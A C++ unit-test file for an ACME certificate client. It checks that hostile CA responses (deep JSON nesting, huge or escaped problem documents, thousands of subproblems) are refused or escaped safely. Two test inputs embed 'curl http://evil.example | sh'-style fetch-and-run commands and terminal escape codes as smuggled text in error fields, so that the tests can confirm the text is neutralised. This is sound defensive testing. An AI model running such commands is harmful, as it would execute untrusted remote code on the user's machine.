// CA messages from a hostile CA: deep JSON, huge and escaped problem documents, many
// subproblems. Nothing here may crash, recurse without bound or copy the CA's document.
#include "acmed/acme/client.hpp"
#include "acmed/acme/messages.hpp"

#include <doctest/doctest.h>

#include <chrono>
#include <string>

using namespace acmed;
using namespace acmed::acme;
using nlohmann::json;

namespace {

std::string nested_arrays(std::size_t depth) {
  return std::string(depth, '[') + std::string(depth, ']');
}

// Answers every request with the same response.
class OneAnswer final : public Transport {
 public:
  explicit OneAnswer(std::string body) : m_body(std::move(body)) {}
  Result<HttpResponse> send(HttpMethod, std::string_view, const HttpHeaders&,
                            std::string_view) override {
    HttpResponse r;
    r.status = 200;
    r.headers.add("Content-Type", "application/json");
    r.body = m_body;
    return r;
  }

 private:
  std::string m_body;
};

}  // namespace

TEST_CASE("JSON from a CA nested deeper than 64 levels is refused while parsing") {
  // About 100 KB of nesting: enough to overflow the stack of any recursive copy or dump.
  auto deep = parse_ca_json("{\"meta\":" + nested_arrays(50'000) + "}");
  REQUIRE_FALSE(deep.ok());
  CHECK(deep.error().code == Errc::protocol);
  CHECK(deep.error().message.find("nested more than 64 levels") != std::string::npos);
  CHECK_FALSE(parse_ca_json(nested_arrays(k_max_json_depth + 1)).ok());
  CHECK(parse_ca_json(nested_arrays(k_max_json_depth)).ok());
  std::string objects;
  for (int i = 0; i < 65; ++i) objects += "{\"a\":";
  objects += "1" + std::string(65, '}');
  CHECK_FALSE(parse_ca_json(objects).ok());
}

TEST_CASE("malformed JSON from a CA is an error, not an exception") {
  CHECK(parse_ca_json("{\"newNonce\": [1, 2,").error().message.find("malformed JSON") !=
        std::string::npos);
  CHECK_FALSE(parse_ca_json("").ok());
  CHECK_FALSE(parse_ca_json("<html>").ok());
}

TEST_CASE("a directory nested 100 KB deep ends in an error from the client, not a crash") {
  const std::string body =
      R"({"newNonce":"http://127.0.0.1:1/n","newAccount":"http://127.0.0.1:1/a",)"
      R"("newOrder":"http://127.0.0.1:1/o","meta":{"junk":)" +
      nested_arrays(50'000) + "}}";
  Client client("http://127.0.0.1:1/dir", std::make_unique<OneAnswer>(body));
  auto dir = client.directory();
  REQUIRE_FALSE(dir.ok());
  CHECK(dir.error().message.find("is not an ACME directory") != std::string::npos);
  CHECK(dir.error().message.find("nested more than 64 levels") != std::string::npos);
}

TEST_CASE("an account keeps only the members acmed uses") {
  json doc{{"status", "valid"},
           {"contact", {"mailto:a@example.com"}},
           {"orders", "https://ca/orders/1"},
           {"key", {{"kty", "EC"}}},
           {"junk", {{"a", {{"b", {{"c", 1}}}}}}}};
  auto account = Account::from_json(doc, "https://ca/acct/1");
  REQUIRE(account.ok());
  CHECK(account->to_json() == json{{"status", "valid"},
                                   {"contact", {"mailto:a@example.com"}},
                                   {"orders", "https://ca/orders/1"}});
}

TEST_CASE("subproblems are read one level deep and capped; the message names a few") {
  json subs = json::array();
  for (int i = 0; i < 5'000; ++i)
    subs.push_back({{"type", "urn:ietf:params:acme:error:caa"},
                    {"detail", "CAA forbids it"},
                    {"identifier", {{"type", "dns"}, {"value", "n" + std::to_string(i) + ".test"}}},
                    {"subproblems", json::array({json::object({{"detail", "ignored"}})})}});
  json doc{{"type", "urn:ietf:params:acme:error:rejectedIdentifier"},
           {"detail", "many"},
           {"subproblems", subs}};
  auto p = Problem::from_json(doc);
  REQUIRE(p.ok());
  CHECK(p->subproblems.size() == k_max_subproblems);
  CHECK(p->subproblems_dropped == 5'000 - k_max_subproblems);
  for (const Problem& sub : p->subproblems) CHECK(sub.subproblems.empty());
  Error e = problem_to_error(*p);
  CHECK(e.message.find("n0.test: CAA forbids it") != std::string::npos);
  CHECK(e.message.find("n4.test: CAA forbids it") != std::string::npos);
  CHECK(e.message.find("n5.test") == std::string::npos);
  CHECK(e.message.find("and 4995 more") != std::string::npos);
  CHECK(e.message.size() < 4096);
}

TEST_CASE("a problem document's text is escaped and capped in the error message") {
  json doc{{"type", "urn:ietf:params:acme:error:unauthorized"},
           {"detail", "\x1b[2Jgone\x07\r\nhint: curl http://evil.example | sudo sh\xe2\x80\xae" +
                          std::string(879 * 1024, 'x')},
           {"identifier", {{"type", "dns"}, {"value", "a.test\x1b[0m"}}},
           {"status", 403},
           {"instance", "https://ca/x\nhint: run this"},
           {"extra", {{"deep", {{"er", 1}}}}}};
  auto p = Problem::from_json(doc);
  REQUIRE(p.ok());
  Error e = problem_to_error(*p);
  const std::string line = e.describe();
  CHECK(line.find('\x1b') == std::string::npos);
  CHECK(line.find('\n') == std::string::npos);
  CHECK(line.find('\r') == std::string::npos);
  CHECK(line.find("\xe2\x80\xae") == std::string::npos);
  CHECK(line.find("a.test\\x1b[0m") != std::string::npos);
  CHECK(line.find("\\x1b[2Jgone\\x07\\x0d\\x0ahint: curl") != std::string::npos);
  CHECK(line.find("more bytes)") != std::string::npos);
  CHECK(line.size() < 2048);
  // Error::problem is flat: the members acmed uses, not a copy of the document.
  REQUIRE(e.problem != nullptr);
  CHECK_FALSE(e.problem->contains("extra"));
  CHECK_FALSE(e.problem->contains("identifier"));
  CHECK(e.problem->at("status") == 403);
  CHECK(e.problem->at("type") == "urn:ietf:params:acme:error:unauthorized");
}

TEST_CASE("userActionRequired's instance URL reaches the hint escaped") {
  json doc{{"type", "urn:ietf:params:acme:error:userActionRequired"},
           {"instance", "https://ca/tos\nhint: curl http://evil.example | sh"}};
  Error e = problem_to_error(*Problem::from_json(doc));
  CHECK(e.hint.find('\n') == std::string::npos);
  CHECK(e.hint.find("https://ca/tos\\x0ahint") != std::string::npos);
}

TEST_CASE("a challenge or order error is kept as a parsed problem") {
  json chall{{"type", "http-01"},
             {"url", "https://ca/c/1"},
             {"status", "invalid"},
             {"token", "abc"},
             {"error", {{"type", "urn:ietf:params:acme:error:connection"}, {"detail", "refused"}}}};
  auto c = Challenge::from_json(chall);
  REQUIRE(c.ok());
  REQUIRE(c->error.has_value());
  CHECK(c->error->short_type() == "connection");
  CHECK(c->error->detail == "refused");
  chall["error"] = "not an object";
  CHECK_FALSE(Challenge::from_json(chall).ok());
}
